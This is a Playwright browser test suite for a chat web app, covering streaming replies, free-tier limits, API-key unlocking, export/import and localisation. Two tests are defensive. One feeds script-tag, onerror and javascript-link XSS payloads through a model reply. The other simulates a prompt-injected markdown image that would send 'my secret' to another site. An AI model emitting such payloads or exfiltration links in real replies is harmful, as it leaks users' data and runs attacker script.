"""The chat page in Debian's Chromium against a real server and the test upstream.

One deployment for the whole module (``chat_app``); every test gets its own
browser context, so its own session (a new visitor). Screenshots go to
``test-artifacts/`` for people to look at.
"""

from __future__ import annotations

import base64
import json
import re
import time
from pathlib import Path

import pytest
from playwright.sync_api import Page, expect

from kernel.models import RequestLog
from tests.conftest import LiveServer, report_csp_violations
from tests.webapp.chat.deployment import start_deployment
from webapp.chat import free_tier
from webapp.models import Conversation, Message

pytestmark = pytest.mark.browser

ARTIFACTS = Path(__file__).resolve().parents[2] / "test-artifacts"
LONG_REPLY = " ".join(f"word{i}" for i in range(400))


@pytest.fixture(scope="module")
def chat_app(tmp_path_factory):
    yield from start_deployment(tmp_path_factory)


@pytest.fixture
def chat(chat_app, page: Page) -> Page:
    chat_app.upstream.delay = 0.0
    chat_app.upstream.replies.clear()
    free_tier.limiter.reset()
    page.goto(chat_app.url + "/")
    page.wait_for_function("() => window.htmx && htmx.version.startsWith('2.0')")
    return page


def send(page: Page, text: str) -> None:
    box = page.locator("#composer-input")
    box.fill(text)
    box.press("Enter")


def last_reply(page: Page):
    return page.locator("article.msg-assistant").last


def unlock(page: Page, key: str) -> None:
    page.fill('#key-panel input[name="key"]', key)
    page.click('#key-panel button[type="submit"]')


def test_free_visitor_chats_and_reply_streams_before_it_ends(chat_app, chat: Page):
    chat_app.upstream.delay = 0.02
    chat_app.upstream.replies.append("Here is **bold**, a table:\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n" + LONG_REPLY[:600])
    expect(chat.locator(".tier-note")).to_contain_text("Free tier")
    send(chat, "Hello, free model")
    expect(chat.locator("article.msg-user").last).to_contain_text("Hello, free model")
    reply = last_reply(chat)
    # Formatting appears while the reply is still being written (Stop is only there then).
    expect(reply.locator("strong")).to_have_text("bold")
    expect(reply.locator("button.stop")).to_be_visible()
    assert "word80" not in reply.locator(".msg-body").inner_text()  # tokens arrive before the end
    expect(reply.locator("table td").first).to_have_text("1")
    expect(reply.locator("button.stop")).to_have_count(0, timeout=15_000)
    expect(reply).to_contain_text("word80")
    expect(reply.locator(".msg-meta .model")).to_have_text("gpt-4o-mini")
    expect(reply.locator(".msg-meta .cost")).to_contain_text("$")
    assert reply.get_attribute("sse-connect") is None
    # The URL names the new conversation and it is listed in the sidebar.
    assert re.search(r"/c/\d+$", chat.url)
    expect(chat.locator("#conv-list li.active")).to_contain_text("Hello, free model")
    chat.click(".conv-actions summary")  # rename, export, delete: there without a page load
    chat.fill(".rename-form input[name=title]", "Renamed chat")
    chat.click(".rename-form button")
    expect(chat.locator("#chat-title")).to_have_text("Renamed chat")
    expect(chat.locator("#conv-list li.active")).to_have_text("Renamed chat")
    # Enter sent; Shift+Enter makes a new line instead.
    box = chat.locator("#composer-input")
    box.fill("line one")
    box.press("Shift+Enter")
    box.type("line two")
    assert box.input_value() == "line one\nline two"
    ARTIFACTS.mkdir(exist_ok=True)
    chat.screenshot(path=str(ARTIFACTS / "chat-desktop-en.png"))


def test_free_tier_limits_say_which_and_when(chat_app, chat: Page):
    free_tier.write_config({"free_rpm": 1})
    try:
        chat_app.upstream.replies.append("First reply.")
        send(chat, "one")
        expect(last_reply(chat)).to_contain_text("First reply.", timeout=10_000)
        send(chat, "two")
        notice = chat.locator("#composer-notice")
        expect(notice).to_contain_text("1 messages a minute")
        expect(notice).to_contain_text("Try again in")
        assert chat.locator("#composer-input").input_value() == "two"  # kept for later
        # A model that is not free is locked for a visitor without a key.
        option = chat.locator('#model-select option[value="gpt-4o"]')
        assert option.get_attribute("disabled") is not None
        expect(option).to_contain_text("paste an API key")
        free_tier.write_config({"free_rpm": 100, "free_daily_budget_usd": "0"})
        free_tier.limiter.reset()
        send(chat, "three")
        expect(notice).to_contain_text("daily budget is used up")
        expect(notice).to_contain_text("00:00 UTC")
    finally:
        free_tier.write_config({"free_rpm": 100, "free_daily_budget_usd": "1"})


def test_paste_a_key_unlocks_models_and_forget_locks_them(chat_app, chat: Page):
    chat.fill('#key-panel input[name="key"]', "sk-not-a-real-key")
    # Show/hide reveals what was pasted.
    field = chat.locator('#key-panel input[name="key"]')
    assert field.get_attribute("type") == "password"
    chat.click("[data-toggle-key]")
    assert field.get_attribute("type") == "text"
    chat.click('#key-panel button[type="submit"]')
    expect(chat.locator(".key-error")).to_contain_text("not valid")
    url_before = chat.url
    unlock(chat, chat_app.limited_key)
    expect(chat.locator("#key-panel .balance")).to_have_text("$20.00")
    # Locked for this key, with the reason, but visible.
    option = chat.locator('#model-select option[value="gpt-4o"]')
    expect(option).to_contain_text("not allowed for this key")
    assert option.get_attribute("disabled") is not None
    unlock_page_html = chat.content()
    assert chat_app.limited_key not in unlock_page_html  # never written back into the page
    chat.click("#key-panel button:has-text('Forget key')")
    expect(chat.locator('#key-panel input[name="key"]')).to_be_visible()
    unlock(chat, chat_app.key)
    expect(chat.locator("#key-panel .balance")).to_be_visible()
    assert chat.locator('#model-select option[value="gpt-4o"]').get_attribute("disabled") is None
    assert chat.url == url_before  # no page load
    expect(chat.locator(".tier-note")).to_have_count(0)
    chat.select_option("#model-select", "gpt-4o")
    chat_app.upstream.replies.append("Paid reply.")
    send(chat, "Use the big model")
    expect(last_reply(chat)).to_contain_text("Paid reply.")
    expect(last_reply(chat).locator(".msg-meta .model")).to_have_text("gpt-4o")
    chat.click(".settings summary")
    ARTIFACTS.mkdir(exist_ok=True)
    chat.screenshot(path=str(ARTIFACTS / "chat-desktop-en-unlocked.png"))
    cookies = {c["name"]: c for c in chat.context.cookies()}
    assert cookies["session"]["httpOnly"] and chat_app.key not in cookies["session"]["value"]


def test_stop_keeps_the_partial_reply_and_bills_only_it(chat_app, chat: Page):
    unlock(chat, chat_app.key)
    expect(chat.locator("#key-panel .balance")).to_be_visible()
    chat_app.upstream.delay = 0.05
    chat_app.upstream.replies.append(LONG_REPLY)
    cancelled = chat_app.upstream.cancelled
    send(chat, "Count slowly")
    reply = last_reply(chat)
    expect(reply).to_contain_text("word5")
    reply.locator("button.stop").click()
    expect(reply.locator(".badge")).to_have_text("stopped")
    text = reply.locator(".msg-body").inner_text()
    assert "word5" in text and "word399" not in text
    row = Message.select().order_by(Message.id.desc()).first()
    assert row.status == "stopped" and row.content.startswith("word0") and row.completion_tokens < 400
    deadline = time.monotonic() + 5
    while chat_app.upstream.cancelled == cancelled and time.monotonic() < deadline:
        time.sleep(0.05)
    assert chat_app.upstream.cancelled == cancelled + 1  # the upstream request was cut
    deadline = time.monotonic() + 5
    while time.monotonic() < deadline:
        log = RequestLog.select().where(RequestLog.model == "gpt-4o-mini").order_by(RequestLog.id.desc()).first()
        if log is not None and log.completion_tokens == row.completion_tokens:
            break
        time.sleep(0.05)
    assert 0 < log.completion_tokens < 400 and log.quota == row.cost_quota > 0


def test_regenerate_edit_and_switch_conversations(chat_app, chat: Page):
    chat_app.upstream.replies.extend(["First answer.", "Second answer.", "Answer to the edit.", "Other chat."])
    send(chat, "Question A")
    expect(last_reply(chat)).to_contain_text("First answer.")
    first_url = chat.url
    last_reply(chat).locator("button:has-text('Regenerate')").click()
    expect(last_reply(chat)).to_contain_text("Second answer.")
    expect(chat.locator("article.msg-assistant")).to_have_count(1)
    chat.locator("article.msg-user button:has-text('Edit')").click()
    chat.fill("article.editing textarea", "Question A, edited")
    chat.click("article.editing button[type=submit]")
    expect(last_reply(chat)).to_contain_text("Answer to the edit.")
    expect(chat.locator("article.msg-user")).to_have_text(re.compile("Question A, edited"))
    expect(chat.locator("article.msg-assistant")).to_have_count(1)
    # A second conversation, then back to the first through the sidebar.
    chat.click("a.new-chat")
    send(chat, "Question B")
    expect(last_reply(chat)).to_contain_text("Other chat.")
    expect(chat.locator("#conv-list li")).to_have_count(2)
    chat.locator("#conv-list a", has_text="Question A").click()
    expect(chat.locator("article.msg-user")).to_contain_text("Question A, edited")
    expect(chat.locator("#chat-title")).to_have_text("Question A")
    assert chat.url == first_url
    # Search finds a conversation by its messages' text.
    chat.fill(".conv-search", "other chat")
    expect(chat.locator("#conv-list li")).to_have_count(1)
    expect(chat.locator("#conv-list li")).to_contain_text("Question B")
    # A system prompt saved as a shortcut can be picked again.
    chat.click(".settings summary")
    chat.fill("#system-prompt", "Answer like a pirate.")
    chat.fill('input[name="shortcut_name"]', "Pirate")
    chat.click("button:has-text('Save as shortcut')")
    expect(chat.locator("#shortcut-pick option", has_text="Pirate")).to_have_count(1)
    chat.fill("#system-prompt", "")
    chat.select_option("#shortcut-pick", label="Pirate")
    assert chat.input_value("#system-prompt") == "Answer like a pirate."
    chat.click(".shortcut-list button:has-text('Pirate')")
    expect(chat.locator("#shortcut-pick option", has_text="Pirate")).to_have_count(0)
    # Delete one message.
    last_reply(chat).locator("button:has-text('Delete')").click()
    expect(chat.locator("article.msg-assistant")).to_have_count(0)


def test_reply_with_script_is_shown_as_text(chat_app, chat: Page):
    chat_app.upstream.replies.append(
        'Look: <script>window.pwned = 1</script> <img src=x onerror="window.pwned=2"> '
        '[click](javascript:window.pwned=3)\n\n```html\n<script>window.pwned = 4</script>\n```')
    send(chat, "<b>not bold</b> <script>window.pwned = 5</script>")
    reply = last_reply(chat)
    expect(reply).to_contain_text("<script>window.pwned = 1</script>")
    expect(reply.locator("pre code")).to_contain_text("<script>window.pwned = 4</script>")
    expect(chat.locator("article.msg-user")).to_contain_text("<b>not bold</b>")
    assert chat.evaluate("() => window.pwned") is None
    assert reply.locator("script, img[onerror]").count() == 0
    assert reply.locator('a[href^="javascript"]').count() == 0
    title = Conversation.select().order_by(Conversation.id.desc()).first()
    assert title.title.startswith("<b>not bold</b>")
    expect(chat.locator("#chat-title")).to_contain_text("<b>not bold</b>")


@pytest.fixture
def other_site():
    """A server on another origin that records every request it gets."""
    from starlette.applications import Starlette
    from starlette.responses import Response
    from starlette.routing import Route

    hits: list[str] = []

    async def anything(request):
        hits.append(str(request.url))
        return Response(PIXEL, media_type="image/png")

    server = LiveServer(Starlette(routes=[Route("/{path:path}", anything)])).start()
    server.hits = hits
    yield server
    server.stop()


PIXEL = base64.b64decode("iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR42mNk+M9QDwADhgGAWjR9awAAAABJRU5ErkJggg==")


def test_a_reply_cannot_make_the_browser_call_another_site(chat_app, chat: Page, other_site):
    """A prompt-injected image URL would carry the chat away the moment the reply shows."""
    elsewhere: list[str] = []
    chat.on("request", lambda r: elsewhere.append(r.url) if r.url.startswith(other_site.url) else None)
    dot = "data:image/png;base64," + base64.b64encode(PIXEL).decode()
    chat_app.upstream.replies.append(f"Noted. ![chart]({other_site.url}/leak.png?q=my+secret) ![dot]({dot})")
    send(chat, "my secret")
    reply = last_reply(chat)
    expect(reply.locator("button.stop")).to_have_count(0, timeout=15_000)
    chat.wait_for_load_state("networkidle")
    assert other_site.hits == [] and elsewhere == []
    expect(reply.locator(f'a[href^="{other_site.url}"]')).to_have_text("chart")
    expect(reply.locator('img[alt="dot"]')).to_have_count(1)
    assert chat.evaluate("() => document.querySelector('img[alt=dot]').naturalWidth") == 1  # data: images show
    chat.reload()
    expect(last_reply(chat).locator(f'a[href^="{other_site.url}"]')).to_have_text("chart")
    chat.wait_for_load_state("networkidle")
    assert other_site.hits == [] and elsewhere == []


def test_export_and_import(chat_app, chat: Page, browser, tmp_path):
    chat_app.upstream.replies.append("Exported reply.")
    send(chat, "Keep this one")
    expect(last_reply(chat)).to_contain_text("Exported reply.")
    with chat.expect_download() as download:
        chat.click("a:has-text('Export all')")
    path = tmp_path / "export.json"
    download.value.save_as(path)
    document = json.loads(path.read_text())
    assert document["format"] == "permachat.conversations"
    assert [m["content"] for m in document["conversations"][0]["messages"]] == ["Keep this one", "Exported reply."]
    # A different visitor imports it and sees the conversation.
    other = browser.new_context(locale="en-US", viewport={"width": 1280, "height": 800})
    violations = report_csp_violations(other)
    try:
        page = other.new_page()
        page.goto(chat_app.url + "/")
        expect(page.locator("#conv-list")).to_contain_text("No conversations yet")
        page.set_input_files('.import-form input[type="file"]', str(path))
        expect(page.locator("#import-notice")).to_contain_text("Imported 1 conversation")
        page.locator("#conv-list a", has_text="Keep this one").click()
        expect(page.locator("article.msg-assistant")).to_contain_text("Exported reply.")
        page.set_input_files('.import-form input[type="file"]',
                             files=[{"name": "bad.json", "mimeType": "application/json", "buffer": b"{nope"}])
        expect(page.locator("#import-notice")).to_contain_text("not JSON")
    finally:
        other.close()
    assert not violations, f"the page broke its Content-Security-Policy: {violations}"


def test_phone_and_chinese(chat_app, browser):
    context = browser.new_context(locale="zh-CN", viewport={"width": 390, "height": 844})
    violations = report_csp_violations(context)
    try:
        page = context.new_page()
        page.goto(chat_app.url + "/")
        expect(page.locator("html")).to_have_attribute("lang", "zh-CN")
        expect(page.locator(".send")).to_have_text("发送")
        ARTIFACTS.mkdir(exist_ok=True)
        page.screenshot(path=str(ARTIFACTS / "chat-phone-zh.png"))
        page.click(".sidebar-toggle")
        page.wait_for_function("() => getComputedStyle(document.getElementById('sidebar')).transform === 'none'")
        page.screenshot(path=str(ARTIFACTS / "chat-phone-zh-sidebar.png"))
        page.click(".sidebar-backdrop", position={"x": 370, "y": 400})
        chat_app.upstream.replies.append("你好！这是一个**测试**。\n\n$$E = mc^2$$\n\n```python\nprint('hi')\n```")
        send(page, "你好")
        expect(last_reply(page).locator("strong")).to_have_text("测试")
        expect(last_reply(page).locator("math")).to_have_count(1)
        expect(last_reply(page).locator("pre .code-copy")).to_have_text("复制")
        expect(last_reply(page).locator("button:has-text('重新生成')")).to_be_visible()
        box = page.locator(".composer").bounding_box()
        assert box["x"] >= 0 and box["x"] + box["width"] <= 391
        page.screenshot(path=str(ARTIFACTS / "chat-phone-zh-reply.png"))
        # Switch to English without losing the page.
        conversation_url = page.url
        page.click(".lang-switch button")
        expect(page.locator(".send")).to_have_text("Send")
        assert page.url == conversation_url  # still in the same conversation
        page.screenshot(path=str(ARTIFACTS / "chat-phone-en.png"))
        page.click(".lang-switch button")
        page.set_viewport_size({"width": 1280, "height": 800})
        expect(page.locator(".send")).to_have_text("发送")
        page.screenshot(path=str(ARTIFACTS / "chat-desktop-zh.png"))
        page.emulate_media(color_scheme="dark")
        page.goto(conversation_url)
        page.screenshot(path=str(ARTIFACTS / "chat-desktop-zh-dark.png"))
    finally:
        context.close()
    assert not violations, f"the page broke its Content-Security-Policy: {violations}"


@pytest.mark.parametrize("clipboard_api", [True, False], ids=["clipboard-api", "plain-http-fallback"])
def test_copy_copies_the_message_and_its_code(chat_app, chat: Page, clipboard_api):
    """Copy under a reply puts its markdown on the clipboard (it used to put an empty string and say Copied)."""
    chat.context.grant_permissions(["clipboard-read", "clipboard-write"], origin=chat_app.url)
    if not clipboard_api:
        # A plain-http host (not localhost) has no Clipboard API: the page must copy without it.
        chat.evaluate("() => Object.defineProperty(navigator, 'clipboard', {value: undefined, configurable: true})")
    reply_text = "Use **this**:\n\n```python\nprint('hi')\n```\n\nDone."
    chat_app.upstream.replies.append(reply_text)
    send(chat, "Show me code")
    reply = last_reply(chat)
    expect(reply.locator("button.stop")).to_have_count(0, timeout=15_000)
    copy = reply.locator("[data-copy-message]")
    copy.click()
    expect(copy).to_have_text("Copied")
    # Read it back with the real Clipboard API (in a fresh page: the test page's was removed).
    reader = chat.context.new_page()
    reader.goto(chat_app.url + "/healthz")
    assert reader.evaluate("() => navigator.clipboard.readText()") == reply_text
    expect(copy).to_have_text("Copy", timeout=5_000)  # the label comes back
    code_copy = reply.locator("pre.highlight .code-copy")
    code_copy.click()
    expect(code_copy).to_have_text("Copied")
    assert reader.evaluate("() => navigator.clipboard.readText()").strip() == "print('hi')"
    reader.close()


@pytest.mark.parametrize("viewport", [{"width": 1440, "height": 900}, {"width": 390, "height": 844}],
                         ids=["desktop", "phone"])
def test_messages_leave_no_htmx_errors_and_the_site_has_an_icon(chat_app, browser, viewport):
    """Every message after the first used to log htmx:oobErrorNoTarget #empty-state (issue 16, item 11)."""
    context = browser.new_context(locale="en-US", viewport=viewport)
    page = context.new_page()
    errors: list[str] = []
    page.on("console", lambda m: errors.append(m.text) if m.type == "error" or "oobErrorNoTarget" in m.text else None)
    free_tier.limiter.reset()
    page.goto(chat_app.url + "/")
    page.wait_for_function("() => window.htmx && htmx.version.startsWith('2.0')")
    page.evaluate("""() => { window.oobErrors = [];
        document.body.addEventListener('htmx:oobErrorNoTarget', e => window.oobErrors.push(String(e.detail.content && e.detail.content.id))); }""")
    for text in ("first", "second", "third"):
        chat_app.upstream.replies.append(f"Reply to {text}.")
        send(page, text)
        expect(last_reply(page)).to_contain_text(f"Reply to {text}.")
        expect(last_reply(page).locator("button.stop")).to_have_count(0, timeout=15_000)
    assert page.evaluate("() => window.oobErrors") == []
    assert not errors, errors
    expect(page.locator("#empty-state")).to_have_count(0)
    icon = page.locator('link[rel="icon"]').get_attribute("href")
    answer = page.request.get(chat_app.url + icon)
    assert answer.status == 200 and answer.headers["content-type"].startswith("image/svg+xml")
    context.close()
